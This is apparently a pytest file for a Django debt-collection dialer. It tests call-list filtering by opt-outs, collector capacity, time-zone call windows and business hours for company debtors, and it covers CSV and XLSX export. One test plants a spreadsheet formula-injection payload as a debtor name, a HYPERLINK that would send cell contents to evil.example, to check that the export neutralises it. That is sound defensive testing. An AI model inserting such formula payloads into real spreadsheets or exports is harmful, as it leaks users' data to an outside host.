"""The dialer's call list: only the rows the contact gate allows."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import polars as pl
import pytest
from django.core.management import call_command
from django.utils import timezone

from arrears.cases.models import Case
from arrears.contacts.models import Preference
from arrears.core.models import Profile
from arrears.strategy.dialer import COLUMNS, call_list, contact_model, debtor_windows
from arrears.strategy.shell import run_nightly
from arrears.strategy.tests.world import ON, add_debtor, build_world, local

ZONE = ZoneInfo("Asia/Shanghai")

pytestmark = pytest.mark.django_db


def test_call_list_leaves_out_what_the_gate_blocks(tmp_path, capsys) -> None:
    world = build_world(collectors=1)
    allowed = add_debtor(world, 1, dpd=3, phones=2)
    opted_out = add_debtor(world, 2, dpd=3)
    Preference.objects.create(
        debtor=opted_out, kind=Preference.Kind.OPT_OUT_CHANNEL, channel="call", recorded_at=local(ON, 9)
    )
    run_nightly(ON)
    assert Case.objects.filter(status="open").count() == 2

    result = call_list(ON)
    assert result.cases == 2
    phones = sorted(r["phone"] for r in result.rows)
    # Both of the allowed debtor's phones, written in full; none of the opted-out one's.
    assert phones == ["13800010000", "13800010001"]
    assert result.blocked_rows == 1 and sum(result.blocked.values()) >= 1
    row = result.rows[0]
    assert row["collector"] == world.collectors[0].username
    assert row["case"] == Case.objects.get(debtor=allowed).reference
    assert row["debtor"] == allowed.name and row["next_action"] == "call"
    start, end = datetime.fromisoformat(row["window_start"]), datetime.fromisoformat(row["window_end"])
    # Tomorrow, local time with the offset, inside the CN window.
    assert start.utcoffset() == timedelta(hours=8)
    assert start.date() == ON + timedelta(days=1) and start < end
    assert start.hour >= 8 and end.hour <= 21

    out = tmp_path / "calls.csv"
    call_command("export_call_list", "--date", ON.isoformat(), "--out", str(out))
    err = capsys.readouterr().err
    assert "2 rows from 2 queued cases" in err and "1 blocked by the gate" in err
    for rule in result.blocked:
        assert rule in err
    with out.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == COLUMNS and len(rows) == 2
    assert all(r["phone"].startswith("1380001") for r in rows)


def test_the_call_list_is_the_days_plan_within_capacity_and_by_collector(capsys) -> None:
    world = build_world(collectors=2)
    for n in range(6):
        add_debtor(world, n, dpd=3 + n)
    Profile.objects.filter(user=world.collectors[0]).update(daily_capacity=1)
    run_nightly(ON)
    result = call_list(ON)
    assert result.cases == 1 + 3
    # The two of the first collector's three that did not fit are planned on the next day.
    assert call_list(ON + timedelta(days=1), world.collectors[0].username).cases == 1
    mine = call_list(ON, world.collectors[1].username)
    assert mine.cases == 3
    assert {r["collector"] for r in mine.rows} == {world.collectors[1].username}
    # Highest priority first.
    priorities = [r["priority"] for r in mine.rows]
    assert priorities == sorted(priorities, reverse=True)
    buffer = io.StringIO()
    mine.write_csv(buffer)
    assert buffer.getvalue().splitlines()[0] == ",".join(COLUMNS)
    # Nothing due on a day before the queue: an empty list, not an error.
    assert call_list(ON - timedelta(days=30)).rows == []


def test_no_cell_of_the_call_list_runs_as_a_formula_in_a_spreadsheet(tmp_path, capsys) -> None:
    from openpyxl import load_workbook

    world = build_world(collectors=1)
    debtor = add_debtor(world, 1, dpd=3)
    debtor.name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    debtor.save(update_fields=["name"])
    run_nightly(ON)
    out = tmp_path / "calls.csv"
    call_command("export_call_list", "--date", ON.isoformat(), "--out", str(out))
    with out.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["debtor"] == "'" + debtor.name
    assert rows[0]["phone"] == "13800010000"  # a number stays a number: a dialler reads it

    book = tmp_path / "calls.xlsx"
    call_command("export_call_list", "--date", ON.isoformat(), "--out", str(book))
    sheet = load_workbook(book).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert sheet.cell(row=2, column=COLUMNS.index("debtor") + 1).value == "'" + debtor.name


def test_one_debtors_windows_are_the_same_alone_as_among_others() -> None:
    """The case page's windows for one debtor (kept for the day, shared by debtors alike)
    are the ones the call list computes for many."""
    world = build_world(collectors=1)
    debtors = [add_debtor(world, n, dpd=3) for n in range(3)]
    debtors[2].time_zone = "Asia/Urumqi"
    debtors[2].save()
    model = contact_model(ON)
    together = debtor_windows(debtors, ON, model)
    for debtor in debtors:
        alone = debtor_windows([debtor], ON, model)
        assert alone.equals(together.filter(pl.col("debtor_id") == debtor.pk))
        assert debtor_windows([debtor], ON, model).equals(alone)  # from the day's cache
    assert not together.filter(pl.col("debtor_id") == debtors[0].pk)["window_start"].equals(
        together.filter(pl.col("debtor_id") == debtors[2].pk)["window_start"]
    )


def test_a_company_is_offered_only_business_hours_on_business_days() -> None:
    """The gate applies the B2B profile to company debtors (09:00-18:00, Monday to Friday):
    the call windows offered must be inside it, or the collector is sent to a refusal."""
    world = build_world(collectors=1)
    person, company = add_debtor(world, 1, dpd=3), add_debtor(world, 2, dpd=3)
    company.kind = "company"
    company.save()
    model = contact_model(ON)

    def hours(debtor, on) -> list[tuple[int, int]]:
        frame = debtor_windows([debtor], on, model, k=24)
        return [(timezone.localtime(a, ZONE).hour, timezone.localtime(b, ZONE).hour or 24)
                for a, b in frame.select("window_start", "window_end").iter_rows()]  # fmt: skip

    assert min(a for a, _b in hours(person, ON)) == 8  # the consumer window opens at 08:00
    assert min(a for a, _b in hours(company, ON)) == 9
    assert max(b for _a, b in hours(company, ON)) == 18
    friday = ON + timedelta(days=4)  # the windows are for the day after: a Saturday
    assert hours(company, friday) == [] and hours(person, friday) != []
